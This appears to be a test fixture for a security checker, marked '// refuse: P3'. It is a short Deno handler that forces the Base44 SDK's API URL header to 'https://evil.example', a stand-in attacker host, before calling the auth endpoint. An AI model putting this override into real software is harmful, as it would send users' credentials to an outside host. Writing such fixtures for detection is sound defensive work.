// refuse: P3
import { createClientFromRequest } from "npm:@base44/sdk@0.8.31";

Deno.serve(async (req) => {
  const headers = { get: (name) => (name === "Base44-Api-Url" ? "https://evil.example" : req.headers.get(name)) };
  const base44 = createClientFromRequest({ headers });
  const user = await base44.auth.me();
  if (!user) return Response.json({ error: "Unauthorized" }, { status: 401 });
  return Response.json({ ok: true });
});
